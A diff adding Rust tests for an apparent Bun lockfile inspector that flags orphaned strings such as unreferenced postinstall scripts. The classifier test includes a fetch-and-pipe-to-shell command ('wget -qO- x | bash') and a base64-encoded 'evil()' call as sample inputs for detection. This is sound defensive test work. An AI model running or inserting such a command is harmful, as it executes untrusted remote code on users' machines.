@@ -0,0 +1,49 @@
+use bun_xray_core::model::OrphanKind;
+use bun_xray_core::parse_lockfile_from_bytes;
+use common::{
+    package_table, rich_fixture, BIN_RECORD_SIZE, META_RECORD_SIZE, NAME_HASH_RECORD_SIZE, NAME_RECORD_SIZE,
+    RESOLUTION_RECORD_SIZE, SCRIPT, SCRIPTS_RECORD_SIZE, SLICE_RECORD_SIZE,
+};
+
+mod common;
+
+#[test]
+fn writer_output_has_no_orphans() {
+    let (lock, _) = parse_lockfile_from_bytes(&rich_fixture()).unwrap();
+    assert!(lock.coverage.orphan_strings.is_empty(), "{:?}", lock.coverage.orphan_strings);
+}
+
+#[test]
+fn dropped_reference_leaves_an_orphan() {
+    let mut bytes = rich_fixture();
+    let (len, begin) = package_table(&bytes);
+    // Blank package 1's postinstall pointer: an all-zero string is empty and
+    // inline, so the script text stays in string_bytes with nothing pointing
+    // at it.
+    let before_scripts = NAME_RECORD_SIZE
+        + NAME_HASH_RECORD_SIZE
+        + RESOLUTION_RECORD_SIZE
+        + 2 * SLICE_RECORD_SIZE
+        + META_RECORD_SIZE
+        + BIN_RECORD_SIZE;
+    let scripts_at = begin + before_scripts * len;
+    let postinstall_at = scripts_at + SCRIPTS_RECORD_SIZE + 16;
+    bytes[postinstall_at..postinstall_at + 8].fill(0);
+
+    let (lock, _) = parse_lockfile_from_bytes(&bytes).unwrap();
+    assert!(lock.packages[1].scripts.postinstall.is_none());
+    let [orphan] = lock.coverage.orphan_strings.as_slice() else {
+        panic!("{:?}", lock.coverage.orphan_strings);
+    };
+    assert_eq!(orphan.value, SCRIPT);
+    assert_eq!(orphan.kind, OrphanKind::Url);
+    let at = orphan.offset as usize;
+    assert_eq!(&bytes[at..at + SCRIPT.len()], SCRIPT.as_bytes());
+}
+
+#[test]
+fn classifies_orphans() {
+    assert_eq!(OrphanKind::classify("wget -qO- x | bash"), OrphanKind::Shell);
+    assert_eq!(OrphanKind::classify("ZXZpbCgpOyBjb25zb2xlLmxvZygp"), OrphanKind::Base64);
+    assert_eq!(OrphanKind::classify("just some words"), OrphanKind::Text);
+}